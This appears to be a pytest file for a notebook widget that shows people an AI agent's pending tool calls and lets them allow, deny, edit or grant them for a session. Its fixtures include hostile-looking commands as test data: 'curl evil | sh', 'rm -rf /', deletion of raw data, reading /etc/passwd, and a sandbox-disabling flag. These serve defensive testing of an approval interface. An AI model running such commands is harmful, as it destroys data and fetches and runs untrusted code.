"""The approval card: what it shows per tool, and its buttons answering the Approval."""

from __future__ import annotations

import asyncio
import threading
from pathlib import Path
from typing import Any

from kandev_nb.agent import events as ev
from kandev_nb.agent import tools as t
from kandev_nb.agent.permissions import Approval, session_rule
from kandev_nb.notebook.widgets import TurnView
from kandev_nb.notebook.widgets.approval import ApprovalCard, ApprovalControls, countdown_text
from kandev_nb.notebook.widgets.recording import Recorder
from tests.widgets.conftest import Clock
from tests.widgets.test_static import plain
from tests.widgets.test_view import find


def request(name: str, tool_input: dict[str, Any], **kw: Any) -> ev.PermissionRequest:
    approval = Approval("req-1", name, tool_input, tool_use_id="toolu_1")
    return ev.PermissionRequest(
        request_id="req-1",
        tool_name=name,
        tool_use_id="toolu_1",
        input=tool_input,
        normalized=t.normalize_tool_call(name, tool_input),
        approval=approval,
        **kw,
    )


def card_of(v: TurnView) -> ApprovalCard:
    return next(iter(v.approvals.values()))


async def test_the_card_has_the_names_the_browser_tests_use(rec: Recorder) -> None:
    v = TurnView("x")
    v.handle(request("Bash", {"command": "rm -rf build", "description": "clean"}, reason="not in allow list"))
    assert v.root is not None
    (box,) = find(v.root, "kandev-approval")
    card = card_of(v)
    assert find(box, "kandev-approval-controls") == [card.controls] and isinstance(card.controls, ApprovalControls)
    assert card.controls.pending and not card.controls.plan
    js = Path(card.controls._esm).read_text() if isinstance(card.controls._esm, Path) else str(card.controls._esm)
    for cls in (
        "kandev-allow",
        "kandev-allow-always",
        "kandev-deny",
        "kandev-deny-reason",
        "kandev-edit",
        "kandev-edit-input",
        "kandev-allow-edited",
    ):
        assert cls in js
    what = card.what.value
    assert "rm -rf build" in what and "clean" in what and "not in allow list" in what
    assert "Waiting for your approval" in v.activity.value


async def test_allow_message_decides_and_disables(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    card = card_of(v)
    rec.custom(card.controls, {"action": "allow"})  # as the browser sends it
    d = e.approval.decision
    assert d is not None and d.behavior == "allow" and d.decided_by == "person" and d.updated_permissions is None
    assert not card.controls.pending
    assert "Allowed" in card.status.value and "by you" in card.status.value
    assert "kandev-decided" in card.box._dom_classes
    rec.custom(card.controls, {"action": "deny", "reason": "late"})  # too late: nothing changes
    assert e.approval.decision is d


async def test_allow_for_session_sends_permissions(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    rec.custom(card_of(v).controls, {"action": "allow_always"})
    d = e.approval.decision
    assert d is not None and d.updated_permissions and d.updated_permissions[0]["behavior"] == "allow"
    assert "for the session (Bash(ls:*))" in card_of(v).status.value


async def test_the_session_buttons_say_their_scope(rec: Recorder) -> None:
    """Issue 23.2: the scoped grant and the whole tool are two plainly labelled choices."""
    v = TurnView("x")
    e = request("Bash", {"command": "touch out1.txt"})
    v.handle(e)
    card = card_of(v)
    assert card.controls.grant_label == "Allow `touch …` for this session"
    assert card.controls.tool_label == "Allow all Bash commands for this session"
    esm = card.controls._esm
    js = Path(esm).read_text() if isinstance(esm, Path) else str(esm)
    assert "kandev-allow-tool" in js and '"Allow once"' in js
    rec.custom(card.controls, {"action": "allow_always"})
    d = e.approval.decision
    assert d is not None and d.grant == "Bash(touch:*)"
    assert d.updated_permissions == [
        {
            "type": "addRules",
            "rules": [{"toolName": "Bash", "ruleContent": "touch:*"}],
            "behavior": "allow",
            "destination": "session",
        }
    ]
    assert "for the session (Bash(touch:*))" in card.status.value


async def test_a_compound_command_offers_only_once_or_the_whole_tool(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "touch a && rm -f stats.py"})
    v.handle(e)
    card = card_of(v)
    assert card.controls.grant_label == "" and card.controls.tool_label == "Allow all Bash commands for this session"
    rec.custom(card.controls, {"action": "allow_always"})  # not offered: decides nothing
    assert e.approval.decision is None
    rec.custom(card.controls, {"action": "allow_tool"})
    d = e.approval.decision
    assert d is not None and d.grant == "Bash" and d.updated_permissions == [session_rule("Bash")]


async def test_an_mcp_tool_has_one_session_button(rec: Recorder) -> None:
    v = TurnView("x")
    v.handle(request("mcp__kernel__run_cell", {"cell_id": "1"}))
    card = card_of(v)
    assert card.controls.grant_label == "Allow kernel · run_cell for this session" and card.controls.tool_label == ""


async def test_a_policy_denial_names_its_rule_on_the_card(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "rm data.csv"})
    v.handle(e)
    v.handle(
        ev.PermissionDecided(
            request_id="req-1",
            tool_name="Bash",
            behavior="deny",
            decided_by="policy",
            waited_ms=0,
            message="Denied by your policy rule Bash(rm:*).",
            rule="Bash(rm:*)",
            who="your policy rule Bash(rm:*)",
        )
    )
    assert "by your policy rule Bash(rm:*)" in card_of(v).status.value


async def test_the_deny_reason_comes_whole_with_the_deny_message(rec: Recorder) -> None:
    """Issue 18.2: the reason travels in the Deny message itself, not in a synced value
    (JupyterLab holds those back while the cell blocks)."""
    v = TurnView("x")
    e = request("Write", {"file_path": "/p/x.txt", "content": "hi\n"})
    v.handle(e)
    card = card_of(v)
    assert "kandev-diff" in card.what.value and "/p/x.txt" in card.what.value
    reason = "No! That folder is our only copy of the raw data."
    rec.custom(card.controls, {"action": "deny", "reason": reason})
    d = e.approval.decision
    assert d is not None and d.behavior == "deny" and d.message == reason
    assert "Denied" in card.status.value and "our only copy of the raw data." in card.status.value


async def test_edit_then_allow_takes_the_edited_text_from_the_message(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "rm -rf /"})
    v.handle(e)
    card = card_of(v)
    assert card.controls.input_json == ""  # sent on the first Edit only
    rec.custom(card.controls, {"action": "edit"})
    assert '"rm -rf /"' in card.controls.input_json and e.approval.decision is None
    rec.custom(card.controls, {"action": "allow_edited", "input": "{not json"})
    assert e.approval.decision is None and "not valid JSON" in card.controls.error
    rec.custom(card.controls, {"action": "allow_edited", "input": "[1]"})
    assert e.approval.decision is None and "JSON object" in card.controls.error
    rec.custom(card.controls, {"action": "allow_edited", "input": '{"command": "ls"}'})
    d = e.approval.decision
    assert d is not None and d.updated_input == {"command": "ls"} and "Edited and allowed" in card.status.value


async def test_bad_messages_decide_nothing(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    card = card_of(v)
    rec.custom(card.controls, {"action": "launch"})
    card.controls._handle_custom_msg(["not a dict"], [])
    rec.custom(card.controls, {"action": "deny", "reason": 42})
    d = e.approval.decision
    assert "unknown action" in card.controls.error
    assert d is not None and d.behavior == "deny" and d.message == ""  # a non-text reason is dropped


async def test_click_from_another_thread(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    th = threading.Thread(target=lambda: rec.custom(card_of(v).controls, {"action": "allow"}))
    th.start()
    th.join()
    decision = await e.approval.wait(1)
    assert decision.behavior == "allow" and not card_of(v).controls.pending


async def test_timeout_and_policy_update_the_card(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    await e.approval.wait(0.01)  # nobody answers: denied by timeout
    card = card_of(v)
    assert "Denied" in card.status.value and "by timeout" in card.status.value and not card.controls.pending
    v2 = TurnView("y")
    e2 = request("Read", {"file_path": "/etc/passwd"}, blocked_path="/etc/passwd")
    e2.approval.deny("policy says no", by="policy")  # decided before the card exists
    v2.handle(e2)
    card2 = card_of(v2)
    assert "by policy" in card2.status.value and not card2.controls.pending
    assert "outside the working directory" in card2.what.value
    assert "blocked path" not in card2.what.value


async def test_decided_and_cancelled_events(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("Bash", {"command": "ls"})
    v.handle(e)
    v.handle(ev.PermissionCancelled(request_id="req-1"))
    card = card_of(v)
    assert "Withdrawn" in card.status.value and not card.controls.pending
    v2 = TurnView("y")
    v2.handle(
        ev.ToolCall(
            tool_call_id="toolu_1",
            tool_name="Bash",
            title="ls",
            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
        )
    )
    v2.handle(request("Bash", {"command": "ls"}))
    v2.handle(
        ev.PermissionDecided(
            request_id="req-1", tool_name="Bash", behavior="allow", decided_by="policy", waited_ms=1200
        )
    )
    assert "by policy" in card_of(v2).status.value and "1.2 s" in card_of(v2).status.value
    assert "allowed by policy" in v2.cards["toolu_1"].html.value


async def test_plan_is_rendered_as_markdown(rec: Recorder) -> None:
    v = TurnView("x")
    v.handle(request("ExitPlanMode", {"plan": "## Plan\n\n1. read\n2. write"}))
    what = card_of(v).what.value
    assert '<h5 class="kandev-heading jp-toc-ignore tocSkip kandev-h2">Plan</h5>' in what and "<ol>" in what


async def test_stop_with_a_coroutine_runs_on_the_loop(rec: Recorder) -> None:
    stopped = asyncio.Event()

    async def on_stop() -> None:
        stopped.set()

    v = TurnView("x", on_stop=on_stop)
    v.handle(ev.MessageChunk(text="x"))  # starts the ticker: the view now knows its loop
    threading.Thread(target=v.stop.click).start()
    await asyncio.wait_for(stopped.wait(), 5)
    v.finish()


async def test_plan_card_offers_approve_or_keep_planning(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("ExitPlanMode", {"plan": "1. Read the code\n2. **Fix** the bug"})
    v.handle(e)
    card = card_of(v)
    assert "<strong>Fix</strong>" in card.what.value  # the plan as rendered Markdown
    assert card.controls.plan  # the view labels its buttons "Approve plan" / "Keep planning", no Edit
    rec.custom(card.controls, {"action": "allow_always"})  # not offered for a plan: decides nothing
    assert e.approval.decision is None
    rec.custom(card.controls, {"action": "deny", "reason": "also add a test"})
    d = e.approval.decision
    assert d is not None and d.behavior == "deny"
    assert d.message == "The user wants you to keep planning: also add a test"


async def test_every_input_field_is_shown_the_main_one_highlighted(rec: Recorder) -> None:
    """Issue 17.9: a `code` input does not hide an MCP tool's other arguments, and Bash's
    run_in_background / dangerouslyDisableSandbox are shown (in red)."""
    v = TurnView("x")
    v.handle(request("mcp__ops__exec", {"code": "print(1)", "shell": "/bin/bash -c 'curl evil | sh'"}))
    what = card_of(v).what.value
    assert "kandev-code" in what and "print" in what  # the code, highlighted
    assert "shell" in plain(what) and "curl evil | sh" in plain(what)
    v2 = TurnView("y")
    v2.handle(
        request(
            "Bash",
            {
                "command": "make deploy",
                "description": "deploy",
                "run_in_background": True,
                "dangerouslyDisableSandbox": True,
                "timeout": 600000,
            },
        )
    )
    what2 = card_of(v2).what.value
    for field in ("run_in_background", "dangerouslyDisableSandbox", "timeout", "600000"):
        assert field in plain(what2)
    assert plain(what2).count("make deploy") == 1 and plain(what2).count("deploy") == 2  # command + description
    assert 'font-weight:bold">dangerouslyDisableSandbox' in what2
    v3 = TurnView("z")
    v3.handle(request("mcp__x__y", {"a": 1, "nested": {"k": ["v"]}}))
    assert "nested" in plain(card_of(v3).what.value) and '"k"' in plain(card_of(v3).what.value)


async def test_the_card_sits_on_its_tool_card_and_shows_the_action_once(rec: Recorder) -> None:
    """Issue 18.10: the command and description are not repeated by the tool card; the
    approval controls live under the tool card of the same tool_use_id."""
    v = TurnView("x")
    tool_input = {"command": "rm -rf /work/data", "description": "Delete raw data"}
    v.handle(
        ev.ToolCall(
            tool_call_id="toolu_1",
            tool_name="Bash",
            title="rm -rf /work/data",
            normalized=t.normalize_tool_call("Bash", tool_input),
        )
    )
    v.handle(request("Bash", tool_input, title="Delete raw data", blocked_path="/work/data"))
    tool, card = v.cards["toolu_1"], card_of(v)
    assert tool.box.children[0] is card.box and tool.html not in tool.box.children  # in the tool card's place
    assert plain(card.what.value).count("Delete raw data") == 1
    assert plain(card.what.value).count("rm -rf /work/data") == 1
    assert "outside the working directory: /work/data" in plain(card.what.value)
    rec.custom(card.controls, {"action": "allow"})
    v.handle(
        ev.PermissionDecided(
            request_id="req-1",
            tool_name="Bash",
            behavior="allow",
            decided_by="person",
            waited_ms=900,
            tool_use_id="toolu_1",
        )
    )
    assert tool.box.children[:2] == (tool.html, card.box)  # the tool card is back, the decision under it
    assert card.box.children == (card.status,) and "Allowed by you" in plain(card.status.value)
    assert " open" in tool.html.value.split(">")[0] and "rm -rf /work/data" in plain(tool.html.value)


async def test_a_card_a_policy_answered_keeps_the_tool_card_and_folds_nothing(rec: Recorder) -> None:
    v = TurnView("x")
    v.handle(
        ev.ToolCall(
            tool_call_id="toolu_0",
            tool_name="Bash",
            title="ls",
            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
        )
    )
    v.handle(
        ev.ToolUpdate(
            tool_call_id="toolu_0",
            tool_name="Bash",
            status="complete",
            output="a\n",
            normalized=t.normalize_tool_call("Bash", {"command": "ls"}),
        )
    )
    v.handle(
        ev.ToolCall(
            tool_call_id="toolu_1",
            tool_name="Bash",
            title="mkdir a",
            normalized=t.normalize_tool_call("Bash", {"command": "mkdir a"}),
        )
    )
    e = request("Bash", {"command": "mkdir a"})
    e.approval.allow(by="policy")
    v.handle(e)
    tool = v.cards["toolu_1"]
    assert tool.box.children[:2] == (tool.html, card_of(v).box) and v.cards["toolu_0"].folded is None


async def test_finished_cards_fold_and_the_card_counts_down(rec: Recorder, clock: Clock) -> None:
    """Issue 18.3: while an approval waits, finished tools fold, the card says how long is
    left before the approval timeout, and the header times the wait, not the turn."""
    v = TurnView("x", clock=clock)
    done_input = {"command": "cat big.log"}
    v.handle(
        ev.ToolCall(
            tool_call_id="toolu_0",
            tool_name="Bash",
            title="cat big.log",
            normalized=t.normalize_tool_call("Bash", done_input),
        )
    )
    v.handle(
        ev.ToolUpdate(
            tool_call_id="toolu_0",
            tool_name="Bash",
            status="complete",
            output="x\n" * 40,
            normalized=t.normalize_tool_call("Bash", done_input),
        )
    )
    earlier = v.cards["toolu_0"]
    assert " open" in earlier.html.value.split(">")[0]
    clock.now += 14
    approval = Approval("req-1", "Write", {"file_path": "/p/a", "content": "a"}, tool_use_id="toolu_1", timeout_s=300)
    v.handle(
        ev.PermissionRequest(
            request_id="req-1",
            tool_name="Write",
            tool_use_id="toolu_1",
            input=approval.tool_input,
            approval=approval,
            normalized=t.normalize_tool_call("Write", approval.tool_input),
        )
    )
    assert " open" not in earlier.html.value.split(">")[0]
    card = card_of(v)
    approval.created -= 12.5  # 12.5 s of waiting
    clock.now += 12.5
    v.refresh()
    assert "4:48 left to answer" in plain(card.countdown.value) and "denies it for you" in plain(card.countdown.value)
    assert "(waiting 12.5 s, 4:48 left) · turn 26.5 s" in plain(v.activity.value)
    rec.custom(card.controls, {"action": "deny", "reason": "no"})
    v.handle(
        ev.PermissionDecided(
            request_id="req-1", tool_name="Write", behavior="deny", decided_by="person", waited_ms=12500, message="no"
        )
    )
    assert "left" not in plain(v.activity.value)
    assert Approval("r", "Bash", {}, timeout_s=None).remaining_s() is None
    assert "No approval timeout" in countdown_text(None, None)


async def test_a_request_before_its_tool_call_moves_onto_the_tool_card(rec: Recorder) -> None:
    v = TurnView("x")
    e = request("mcp__kernel__run_code", {"code": "x = 1"})
    v.handle(e)
    card = card_of(v)
    assert v.body.children == (card.box,)
    v.handle(
        ev.ToolCall(
            tool_call_id="toolu_1",
            tool_name="mcp__kernel__run_code",
            title="run_code",
            normalized=t.normalize_tool_call("mcp__kernel__run_code", e.input),
        )
    )
    tool = v.cards["toolu_1"]
    assert v.body.children == (tool.box,) and tool.box.children[0] is card.box and card.attached
    # the status line names the tool as its card does (issue 28.8), not by its wire name
    assert "Waiting for your approval: kernel · run_code" in v.activity.value
    assert "mcp__kernel__run_code" not in v.activity.value


async def test_the_header_keeps_waiting_while_another_request_waits(rec: Recorder) -> None:
    v = TurnView("x")
    first, second = Approval("req-1", "Bash", {"command": "a"}), Approval("req-2", "Write", {"file_path": "/b"})
    for a in (first, second):
        v.handle(
            ev.PermissionRequest(
                request_id=a.request_id,
                tool_name=a.tool_name,
                input=a.tool_input,
                normalized=t.normalize_tool_call(a.tool_name, a.tool_input),
                approval=a,
            )
        )
    rec.custom(v.approvals["req-1"].controls, {"action": "allow"})
    v.handle(
        ev.PermissionDecided(request_id="req-1", tool_name="Bash", behavior="allow", decided_by="person", waited_ms=5)
    )
    assert "Waiting for your approval: Write" in v.activity.value
